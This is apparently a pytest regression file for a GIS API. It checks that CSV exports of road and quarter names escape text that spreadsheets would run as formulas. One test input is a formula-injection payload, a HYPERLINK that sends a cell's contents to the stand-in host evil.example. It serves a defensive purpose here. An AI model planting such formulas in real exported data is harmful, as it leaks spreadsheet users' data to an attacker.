"""A CSV answer's text never reads as a formula in a spreadsheet (found by an audit at
2026-12-03: a road a planner named `=HYPERLINK(...)` came out of `?f=csv` as a live formula).
Over a committed copy of the reference data."""

from __future__ import annotations

import csv
import io

import pytest

from gis import csv_cells
from tests.support import merge_patch

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+45 1234", "'+45 1234"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("Granparken", "Granparken"),
        (-2, -2),  # a number is no text
        (None, None),
    ],
)
def test_a_text_a_spreadsheet_would_read_as_a_formula_is_written_as_text(value, written):
    assert csv_cells.cell(value) == written


def _rename(client, writable_ref, path: str, name: str) -> None:
    r = client.get(path)
    assert r.status_code == 200, r.text
    done = merge_patch(client, writable_ref, path, "planner", r.headers["etag"], {"name": name})
    assert done.status_code == 200, done.text


def test_the_items_and_the_tenure_mix_as_csv_write_a_formula_as_text(writable_client, writable_ref):
    _rename(writable_client, writable_ref, "/collections/roads/items/2", FORMULA)
    r = writable_client.get("/collections/roads/items", params={"f": "csv", "limit": 100})
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert "'" + FORMULA in [row["name"] for row in rows]
    assert FORMULA not in [row["name"] for row in rows]

    quarter = writable_client.get("/collections/quarters/items", params={"limit": 1}).json()
    fid = quarter["features"][0]["id"]
    _rename(writable_client, writable_ref, f"/collections/quarters/items/{fid}", "=1+1")
    r = writable_client.get("/areas/vollsmose/tenure-mix", params={"year": 2030, "f": "csv"})
    assert r.status_code == 200, r.text
    names = [row["quarter_name"] for row in csv.DictReader(io.StringIO(r.text))]
    assert "'=1+1" in names and "=1+1" not in names
    # Its figures are numbers as before: a negative one is no text.
    assert all(
        row["dwellings_total"].lstrip("-").isdigit() for row in csv.DictReader(io.StringIO(r.text))
    )
